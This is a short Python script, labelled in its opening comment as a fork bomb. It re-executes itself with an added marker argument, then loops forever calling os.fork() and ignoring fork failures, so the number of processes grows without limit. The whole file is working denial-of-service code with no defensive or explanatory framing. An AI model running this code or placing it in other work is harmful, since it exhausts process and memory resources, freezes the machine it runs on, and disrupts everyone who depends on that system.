# Fork bomb (Python): every process forks for ever, failures ignored.
import os
import sys

if len(sys.argv) < 3:
    os.execv(sys.executable, [sys.executable, *sys.argv, "@MARKER@"])
while True:
    try:
        os.fork()
    except OSError:
        pass
